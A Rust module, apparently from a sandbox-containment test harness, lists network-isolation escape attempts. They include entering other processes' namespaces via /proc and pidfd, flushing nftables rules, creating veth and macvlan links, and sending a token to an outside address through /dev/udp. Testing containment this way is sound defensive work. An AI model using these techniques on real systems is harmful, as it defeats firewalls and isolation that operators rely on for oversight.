//! Another namespace, where the rules are not.

use std::{fs::File, io, thread, time::Duration};

use nix::{
    libc,
    sched::{CloneFlags, setns, unshare},
};

use super::{Attempt, Context, families, run, send_anything};
use crate::{
    stage::{BYSTANDER, OUTSIDE_NETWORK, bystander},
    support::sys,
    sys as calls,
};

pub fn attempts() -> Vec<Attempt> {
    let attempt = |name, body| Attempt::new("namespaces", name, body);
    let privileged = |name, body| attempt(name, body).privileged();
    vec![
        attempt("a user namespace, then a packet socket", user_then_packet),
        attempt("a user namespace, then a raw socket", user_then_raw),
        attempt("a user namespace, then datagrams", |c| {
            unshare(CloneFlags::CLONE_NEWUSER)?;
            send_anything(c)
        }),
        attempt("user and network namespaces, then datagrams", |c| {
            unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET)?;
            send_anything(c)
        }),
        privileged("a network namespace, with a veth back", veth_back),
        privileged("a network namespace, with a macvlan on eth0", macvlan),
        privileged("into the outside's network namespace, by its file", |c| {
            enter(File::open(OUTSIDE_NETWORK)?, c)
        }),
        privileged("into the outside's network, from a user namespace", |c| {
            let file = File::open(OUTSIDE_NETWORK)?;
            unshare(CloneFlags::CLONE_NEWUSER)?;
            enter(file, c)
        }),
        privileged("into the network of process 1, then flush", |c| {
            let _ = setns(File::open("/proc/1/ns/net")?, CloneFlags::CLONE_NEWNET);
            run("nft", &["flush", "ruleset"])?;
            send_anything(c)
        }),
        privileged("into the namespaces of a privileged neighbour", |c| {
            let pidfd = calls::numbers(libc::SYS_pidfd_open, [bystander()?.into(), 0, 0, 0, 0])?;
            let all = CloneFlags::CLONE_NEWNET | CloneFlags::CLONE_NEWNS;
            setns(calls::owned(pidfd), all)?;
            run("nft", &["flush", "ruleset"])?;
            send_anything(c)
        }),
        privileged("a user namespace, then flush", |c| {
            unshare(CloneFlags::CLONE_NEWUSER)?;
            run("nft", &["flush", "ruleset"])?;
            send_anything(c)
        }),
        privileged("the neighbour's namespace by /proc", |c| {
            let path = format!("/proc/{}/ns/net", bystander()?);
            setns(File::open(path)?, CloneFlags::CLONE_NEWNET)?;
            assert!(!BYSTANDER.is_empty());
            families::send_frame(&sys::socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?, c)
        }),
    ]
}

fn user_then_packet(c: &Context) -> io::Result<()> {
    unshare(CloneFlags::CLONE_NEWUSER)?;
    families::send_frame(&sys::socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?, c)
}

fn user_then_raw(c: &Context) -> io::Result<()> {
    unshare(CloneFlags::CLONE_NEWUSER)?;
    let socket = sys::socket(libc::AF_INET, libc::SOCK_RAW, 47)?;
    let to = super::address((crate::support::world::ELSEWHERE[0], 0).into());
    calls::send(&socket, &c.payload(), 0, &to, &[]).map(drop)
}

fn enter(file: File, c: &Context) -> io::Result<()> {
    setns(file, CloneFlags::CLONE_NEWNET)?;
    // From there everything is local; a broadcast on its end of the link is seen by the capture.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    socket.set_broadcast(true)?;
    socket
        .send_to(&c.payload(), ("10.77.0.255", c.port))
        .map(drop)
}

/// A veth pair between a new namespace and this one, and its packets forwarded.
fn veth_back(c: &Context) -> io::Result<()> {
    let script = format!(
        "unshare --net sleep 3 >/dev/null 2>&1 & sleep 0.1; \
         nft flush ruleset && \
         ip link add escape0 type veth peer name eth9 netns $! && \
         echo -n 'escape {token}' > /dev/udp/{ip}/{port}",
        token = c.token,
        ip = crate::support::world::ELSEWHERE[0],
        port = c.port,
    );
    run("bash", &["-c", &script])
}

/// A macvlan has its own way through eth0: the rules of this namespace do not see it.
fn macvlan(c: &Context) -> io::Result<()> {
    let script = format!(
        "unshare --net sleep 3 >/dev/null 2>&1 & sleep 0.1; pid=$!; \
         ip link add link eth0 name escape0 netns $pid type macvlan mode bridge && \
         nsenter --target $pid --net bash -c 'ip link set escape0 up; \
         ip addr add 10.77.0.9/24 dev escape0; \
         ip neigh add 10.77.0.1 lladdr 02:00:00:00:00:01 dev escape0; \
         echo -n \"escape {token}\" > /dev/udp/10.77.0.1/{port}'",
        token = c.token,
        port = c.port,
    );
    let result = run("bash", &["-c", &script]);
    thread::sleep(Duration::from_millis(20));
    result
}
